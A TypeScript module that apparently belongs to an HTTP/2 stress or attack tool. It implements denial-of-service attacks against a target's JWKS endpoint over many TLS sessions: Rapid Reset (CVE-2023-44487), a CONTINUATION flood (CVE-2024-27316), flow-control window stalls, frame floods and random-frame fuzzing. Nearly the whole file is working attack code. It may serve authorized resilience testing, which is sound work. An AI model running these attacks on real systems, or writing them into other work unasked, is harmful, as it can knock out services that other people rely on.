import type { TLSSocket } from "node:tls";
import { frame, preface, request, settings, windowUpdate } from "../frames.ts";
import { type Attack, type AttackContext, keepOpen, pour, tls } from "./attack.ts";

const INITIAL_WINDOW_SIZE = 4;

/** Sessions that begin with these bytes and then do something. */
function sessions(
  perAddress: number,
  first: Buffer,
  then: (context: AttackContext, socket: TLSSocket) => void,
): Attack {
  return (context) =>
    keepOpen(context, perAddress, (address) =>
      tls(context, address, "h2", (socket) => {
        socket.resume();
        socket.write(Buffer.concat([preface, first]));
        then(context, socket);
      }),
    );
}

/** As many as a session may have at once; more are refused. */
const streams = 100;

/** Requests on the streams 1, 3, 5, … from there on. */
function requests({ target }: AttackContext, from = 0): Buffer {
  return Buffer.concat(
    Array.from({ length: streams }, (_, index) =>
      request(2 * (from + index) + 1, target.host, target.jwksPath),
    ),
  );
}

/** All streams that there may be, and no window for their answers. */
export const windowsShut: Attack = sessions(
  128,
  settings([[INITIAL_WINDOW_SIZE, 0]]),
  (context, socket) => void socket.write(requests(context)),
);

/** Windows without bound, requests without end, and nothing is read. */
export const sessionsUnread: Attack = sessions(
  128,
  Buffer.concat([settings([[INITIAL_WINDOW_SIZE, 0x7fffffff]]), windowUpdate(0, 0x7fff0000)]),
  (context, socket) => {
    socket.pause();
    let from = 0;
    const timer = setInterval(() => {
      if (!socket.writable || socket.writableNeedDrain) return;
      socket.write(requests(context, from));
      from += streams;
    }, 100);
    socket.once("close", () => clearInterval(timer));
  },
);

/** A window of one byte, opened again and again. */
export const windowsByTheByte: Attack = sessions(
  32,
  settings([[INITIAL_WINDOW_SIZE, 1]]),
  (context, socket) => {
    socket.write(requests(context));
    const timer = setInterval(() => {
      if (!socket.writable) return;
      socket.write(
        Buffer.concat(Array.from({ length: streams }, (_, index) => windowUpdate(2 * index + 1, 1))),
      );
    }, 50);
    socket.once("close", () => clearInterval(timer));
  },
);

/** One kind of frame without end. */
function flood(...frames: readonly Buffer[]): Attack {
  const chunk = Buffer.concat(Array.from({ length: 500 }, () => frames).flat());
  return sessions(8, Buffer.alloc(0), (context, socket) => pour(context, socket, chunk));
}

export const windowUpdateFlood: Attack = flood(windowUpdate(0, 1));
export const pingFlood: Attack = flood(frame(6, 0, 0, Buffer.alloc(8)));
export const settingsFlood: Attack = flood(settings());
export const priorityFlood: Attack = flood(frame(2, 0, 1, Buffer.from([0, 0, 0, 3, 1])));
/** CVE-2024-27316 and its kind: a header section that never ends. */
export const continuationFlood: Attack = sessions(8, frame(1, 0, 1, Buffer.alloc(0)), (context, socket) =>
  pour(context, socket, frame(9, 0, 1, Buffer.concat([Buffer.from([0, 1, 97, 1, 98]), Buffer.alloc(0)]))),
);

/** Requests, each reset at once (CVE-2023-44487). */
export const rapidReset: Attack = sessions(8, Buffer.alloc(0), (context, socket) => {
  let stream = 1;
  const more = (): void => {
    while (!context.signal.aborted && socket.writable && !socket.writableNeedDrain && stream < 0x7ffffff0) {
      const { host, jwksPath } = context.target;
      const reset = frame(3, 0, stream, Buffer.from([0, 0, 0, 8]));
      socket.write(Buffer.concat([request(stream, host, jwksPath), reset]));
      stream += 2;
    }
  };
  socket.on("drain", more);
  more();
});

/** Bytes by chance, after a good beginning. */
export const randomFrames: Attack = sessions(16, Buffer.alloc(0), (_, socket) => {
  const frames = Array.from({ length: 50 }, () => {
    const payload = Buffer.from(
      Array.from({ length: Math.floor(Math.random() * 60) }, () => Math.floor(Math.random() * 256)),
    );
    return frame(
      Math.floor(Math.random() * 11),
      Math.floor(Math.random() * 256),
      Math.floor(Math.random() * 6),
      payload,
    );
  });
  socket.write(Buffer.concat(frames));
});
